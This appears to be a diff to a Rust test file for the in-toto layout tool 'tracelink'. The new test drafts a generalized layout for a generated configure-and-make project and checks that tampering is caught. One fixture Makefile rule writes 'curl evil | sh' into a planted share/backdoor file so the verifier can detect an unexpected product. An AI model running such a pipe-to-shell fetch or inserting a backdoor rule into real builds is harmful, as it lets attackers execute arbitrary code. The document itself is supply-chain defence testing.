@@ -1,5 +1,9 @@
 //! `tracelink layout draft` on real precise links, checked by in-toto 3.1.0.
 //!
+//! The first test drafts with `--exact` (one rule per file); the second,
+//! `a_generalized_draft_of_a_configure_make_build_lasts`, drafts a
+//! configure + make build with the default generalized rules.
+//!
 //! A trial run records a precise two-step chain (build: `make` compiling two C
 //! files, deleting one file and appending to another; package: `tar czf` of
 //! build outputs) without any checkout step. The drafted layout must suggest
@@ -111,7 +115,7 @@ fn suggested_commands(stderr: &str) -> Vec<String> {
         .collect()
 }
 
-fn draft(dir: &Path, link_dir: &Path, public: &Path, out: &Path) -> String {
+fn draft(dir: &Path, link_dir: &Path, public: &Path, out: &Path, extra: &[&str]) -> String {
     let output = run_ok(
         common::tracelink()
             .current_dir(dir)
@@ -120,7 +124,8 @@ fn draft(dir: &Path, link_dir: &Path, public: &Path, out: &Path) -> String {
             .arg("--functionary-key")
             .arg(public)
             .arg("-o")
-            .arg(out),
+            .arg(out)
+            .args(extra),
         "tracelink layout draft",
     );
     String::from_utf8(output.stderr).unwrap()
@@ -221,7 +226,13 @@ fn drafted_layout_verifies_a_precise_chain_and_catches_tampering() {
     build(&trial, &alice);
     package(&trial, &alice);
 
-    let stderr = draft(&dir, &trial, &alice_pub, &dir.join("draft.layout"));
+    let stderr = draft(
+        &dir,
+        &trial,
+        &alice_pub,
+        &dir.join("draft.layout"),
+        &["--exact"],
+    );
     println!("draft (trial):\n{stderr}");
     let suggested = suggested_commands(&stderr);
     let want = format!(
@@ -376,7 +387,13 @@ fn drafted_layout_verifies_a_precise_chain_and_catches_tampering() {
     }
 
     // Drafting from the real pipeline's links: no suggestion, the same steps.
-    let stderr = draft(&dir, &real, &alice_pub, &dir.join("again.layout"));
+    let stderr = draft(
+        &dir,
+        &real,
+        &alice_pub,
+        &dir.join("again.layout"),
+        &["--exact"],
+    );
     assert!(suggested_commands(&stderr).is_empty(), "{stderr}");
     assert!(!stderr.contains("warning"), "{stderr}");
     let again: Value =
@@ -619,5 +636,362 @@ fn an_incomplete_link_is_refused_unless_allowed() {
             .iter()
             .any(|s| s["name"] == "build"),
         "{layout}"
+    );
+}
+
+/// An autotools-like project, generated (no real tarball is needed): a
+/// `configure` shell script that writes `config.h`, `config.log` and a
+/// `Makefile` from `Makefile.in`; 20 C files in `src/core`, 20 in
+/// `src/util`, 10 in `lib` (built into `lib/libcompat.a`), two headers in
+/// `include`, objects built beside their sources (in tree, as automake
+/// does). The Makefile finds the sources with `$(wildcard)`, so a new
+/// source file is built without editing it. `backdoor` makes the build
+/// also drop `share/backdoor`, in a directory no CREATE pattern covers.
+fn generate_configure_project(root: &Path, extra_source: bool, backdoor: bool) {
+    write_file(
+        root,
+        "configure",
+        "#!/bin/sh
+# A configure script: checks nothing, writes config.h and Makefile.
+echo \"configure: creating config.h and Makefile\" > config.log
+sed -e 's/@VERSION@/1.2.3/' config.h.in > config.h
+sed -e 's/@CC@/cc/' -e 's/@CFLAGS@/-O1/' Makefile.in > Makefile
+echo \"configure: done\" >> config.log
+",
+    );
+    write_file(
+        root,
+        "config.h.in",
+        "#define PACKAGE_VERSION \"@VERSION@\"\n",
+    );
+    let backdoor_rule = if backdoor {
+        "\tmkdir -p share && echo 'curl evil | sh' > share/backdoor\n"
+    } else {
+        ""
+    };
+    write_file(
+        root,
+        "Makefile.in",
+        &format!(
+            "CC = @CC@
+CFLAGS = @CFLAGS@ -Iinclude -I.
+CORE = $(patsubst %.c,%.o,$(sort $(wildcard src/core/*.c)))
+UTIL = $(patsubst %.c,%.o,$(sort $(wildcard src/util/*.c)))
+COMPAT = $(patsubst %.c,%.o,$(sort $(wildcard lib/*.c)))
+
+all: app
+
+app: $(CORE) $(UTIL) lib/libcompat.a
+\t$(CC) -o $@ $(CORE) $(UTIL) lib/libcompat.a
+{backdoor_rule}
+lib/libcompat.a: $(COMPAT)
+\tar rcs $@ $(COMPAT)
+
+%.o: %.c config.h include/app.h include/compat.h
+\t$(CC) $(CFLAGS) -c $< -o $@
+
+.PHONY: all
+"
+        ),
+    );
+    write_file(
+        root,
+        "include/app.h",
+        "int core_sum(void);\nint util_sum(void);\n",
+    );
+    write_file(root, "include/compat.h", "int compat_sum(void);\n");
+    let mut core_calls = String::new();
+    for i in 0..19 {
+        write_file(
+            root,
+            &format!("src/core/core{i:02}.c"),
+            &format!("#include \"app.h\"\nint core{i:02}(void) {{ return {i}; }}\n"),
+        );
+        core_calls.push_str(&format!("int core{i:02}(void);\n"));
+    }
+    let sum: Vec<String> = (0..19).map(|i| format!("core{i:02}()")).collect();
+    write_file(
+        root,
+        "src/core/main.c",
+        &format!(
+            "#include <stdio.h>\n#include \"config.h\"\n#include \"app.h\"\n#include \"compat.h\"\n{core_calls}\
+             int core_sum(void) {{ return {}; }}\n\
+             int main(void) {{ printf(\"app %s: %d\\n\", PACKAGE_VERSION, core_sum() + util_sum() + compat_sum()); return 0; }}\n",
+            sum.join(" + ")
+        ),
+    );
+    let mut util_decls = String::new();
+    for i in 0..19 {
+        write_file(
+            root,
+            &format!("src/util/util{i:02}.c"),
+            &format!("int util{i:02}(void) {{ return {i} * 2; }}\n"),
+        );
+        util_decls.push_str(&format!("int util{i:02}(void);\n"));
+    }
+    let sum: Vec<String> = (0..19).map(|i| format!("util{i:02}()")).collect();
+    write_file(
+        root,
+        "src/util/sum.c",
+        &format!(
+            "#include \"app.h\"\n{util_decls}int util_sum(void) {{ return {}; }}\n",
+            sum.join(" + ")
+        ),
+    );
+    for i in 0..9 {
+        write_file(
+            root,
+            &format!("lib/compat{i}.c"),
+            &format!("int compat{i}(void) {{ return {i}; }}\n"),
+        );
+    }
+    write_file(
+        root,
+        "lib/sum.c",
+        "#include \"compat.h\"\nint compat0(void);\nint compat_sum(void) { return compat0() + 1; }\n",
+    );
+    if extra_source {
+        // Next week's new file: a utility nobody calls yet.
+        write_file(
+            root,
+            "src/util/util19.c",
+            "int util19(void) { return 38; }\n",
+        );
+    }
+    write_file(
+        root,
+        "README",
+        "app: an autotools-like example (no step reads this)\n",
+    );
+}
+
+fn rule_counts(layout: &Value) -> Vec<(String, usize, usize)> {
+    layout["signed"]["steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| {
+            (
+                s["name"].as_str().unwrap().to_owned(),
+                s["expected_materials"].as_array().unwrap().len(),
+                s["expected_products"].as_array().unwrap().len(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn a_generalized_draft_of_a_configure_make_build_lasts() {
+    const TEST: &str = "a_generalized_draft_of_a_configure_make_build_lasts";
+    if common::precise_unavailable(TEST, &["make", "cc", "ar", "sed", "tar", "gzip"]) {
+        return;
+    }
+    let Some(venv) = common::intoto_venv(TEST) else {
+        return;
+    };
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().canonicalize().unwrap();
+    for name in ["alice.pem", "owner.pem"] {
+        run_ok(
+            common::tracelink().current_dir(&dir).args(["keygen", name]),
+            "keygen",
+        );
+    }
+    let alice = dir.join("alice.pem");
+    let alice_pub = dir.join("alice.pem.pub");
+    let steps = |tree: &Path, tamper: bool| {
+        precise_step(tree, &alice, "configure", &["sh", "configure"]);
+        precise_step(tree, &alice, "make", &["make", "-j2"]);
+        if tamper {
+            let mut bytes = fs::read(tree.join("app")).unwrap();
+            bytes.extend_from_slice(b"\0tampered after the build\n");
+            fs::write(tree.join("app"), bytes).unwrap();
+        }
+        precise_step(
+            tree,
+            &alice,
+            "package",
+            &["tar", "czf", "app.tar.gz", "app", "config.h"],
+        );
+    };
+
+    // The trial: configure, make, package; no checkout.
+    let trial = dir.join("trial");
+    generate_configure_project(&trial, false, false);
+    steps(&trial, false);
+    let stderr = draft(&dir, &trial, &alice_pub, &dir.join("draft.layout"), &[]);
+    println!("draft (trial):\n{stderr}");
+    let suggested = suggested_commands(&stderr);
+    assert_eq!(
+        suggested,
+        [format!(
+            "tracelink run -n checkout -x -k {} -p Makefile.in config.h.in configure include lib src",
+            alice.display()
+        )],
+        "the suggested checkout lists directories:\n{stderr}"
+    );
+    draft(
+        &dir,
+        &trial,
+        &alice_pub,
+        &dir.join("exact.layout"),
+        &["--exact"],
+    );
+    let layout: Value =
+        serde_json::from_str(&fs::read_to_string(dir.join("draft.layout")).unwrap()).unwrap();
+    let exact: Value =
+        serde_json::from_str(&fs::read_to_string(dir.join("exact.layout")).unwrap()).unwrap();
+    println!(
+        "rules per step (name, materials, products): --exact {:?}, generalized {:?}",
+        rule_counts(&exact),
+        rule_counts(&layout)
+    );
+    for (name, m, p) in rule_counts(&layout) {
+        assert!(m <= 30 && p <= 30, "{name}: {m} + {p} rules\n{layout:#}");
+    }
+    let steps_json = layout["signed"]["steps"].as_array().unwrap();
+    let names: Vec<&str> = steps_json
+        .iter()
+        .map(|s| s["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["checkout", "configure", "make", "package"]);
+    assert_eq!(
+        rules(&steps_json[0], "expected_products"),
+        [
+            "CREATE *.in",
+            "CREATE configure",
+            "CREATE include/*",
+            "CREATE lib/*",
+            "CREATE src/*",
+            "DISALLOW *"
+        ]
+    );
+    assert_eq!(
+        rules(&steps_json[2], "expected_materials"),
+        [
+            "MATCH include/* WITH PRODUCTS FROM checkout",
+            "MATCH *.c WITH PRODUCTS FROM checkout",
+            "MATCH Makefile WITH PRODUCTS FROM configure",
+            "MATCH config.h WITH PRODUCTS FROM configure",
+            "DISALLOW *"
+        ]
+    );
+    assert_eq!(
+        rules(&steps_json[2], "expected_products"),
+        [
+            "CREATE app",
+            "CREATE *.o",
+            "CREATE lib/libcompat.a",
+            "DISALLOW *"
+        ]
+    );
+    for step in steps_json {
+        assert_eq!(
+            rules(step, "expected_products").last().unwrap(),
+            "DISALLOW *"
+        );
+        assert_eq!(
+            rules(step, "expected_materials").last().unwrap(),
+            "DISALLOW *"
+        );
+    }
+
+    run_ok(
+        Command::new(venv.join("bin/in-toto-sign"))
+            .current_dir(&dir)
+            .args(["-f", "draft.layout", "-k", "owner.pem", "-o", "root.layout"]),
+        "in-toto-sign",
+    );
+    run_ok(
+        common::tracelink().current_dir(&dir).args([
+            "sign",
+            "draft.layout",
+            "-k",
+            "owner.pem",
+            "-o",
+            "root-tracelink.layout",
+        ]),
+        "tracelink sign",
+    );
+
+    let bin_dir = Path::new(env!("CARGO_BIN_EXE_tracelink")).parent().unwrap();
+    let path = format!(
+        "{}:{}",
+        bin_dir.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let record_chain = |name: &str, extra_source: bool, backdoor: bool, tamper: bool| {
+        let tree = dir.join(name);
+        generate_configure_project(&tree, extra_source, backdoor);
+        run_ok(
+            Command::new("sh")
+                .current_dir(&tree)
+                .env("PATH", &path)
+                .arg("-c")
+                .arg(&suggested[0]),
+            "the suggested checkout command",
+        );
+        steps(&tree, tamper);
+        tree
+    };
+
+    // The chain recorded as the draft suggests: both verifiers, both
+    // signatures.
+    let real = record_chain("real", false, false, false);
+    for signed in ["root.layout", "root-tracelink.layout"] {
+        let (out, _) = verdict(&venv, &real, &dir, signed);
+        assert!(
+            out.status.success(),
+            "the chain recorded as the draft suggests must verify ({signed}):\n{}",
+            common::show(&out)
+        );
+    }
+
+    // Next week: one more source file, the chain recorded again, the same
+    // signed layout.
+    let next = record_chain("next-week", true, false, false);
+    assert!(next.join("src/util/util19.o").is_file());
+    let (out, _) = verdict(&venv, &next, &dir, "root.layout");
+    assert!(
+        out.status.success(),
+        "one more source file must still verify without re-drafting:\n{}",
+        common::show(&out)
+    );
+    // The exact draft, signed, would not have lasted.
+    run_ok(
+        common::tracelink().current_dir(&dir).args([
+            "sign",
+            "exact.layout",
+            "-k",
+            "owner.pem",
+            "-o",
+            "root-exact.layout",
+        ]),
+        "tracelink sign (exact)",
+    );
+    let (out, _) = verdict(&venv, &next, &dir, "root-exact.layout");
+    assert_eq!(out.status.code(), Some(1), "{}", common::show(&out));
+
+    // A product changed between make and package.
+    let tampered = record_chain("tampered", false, false, true);
+    let (out, text) = verdict(&venv, &tampered, &dir, "root.layout");
+    assert_eq!(out.status.code(), Some(1), "{}", common::show(&out));
+    assert!(
+        text.contains(
+            "step \"package\", materials: 'DISALLOW *' matched the following artifacts: ['app']"
+        ),
+        "{text}"
+    );
+
+    // An extra product where no CREATE pattern reaches.
+    let backdoor = record_chain("backdoor", false, true, false);
+    assert!(backdoor.join("share/backdoor").is_file());
+    let (out, text) = verdict(&venv, &backdoor, &dir, "root.layout");
+    assert_eq!(out.status.code(), Some(1), "{}", common::show(&out));
+    assert!(
+        text.contains(
+            "step \"make\", products: 'DISALLOW *' matched the following artifacts: ['share/backdoor']"
+        ),
+        "{text}"
     );
 }
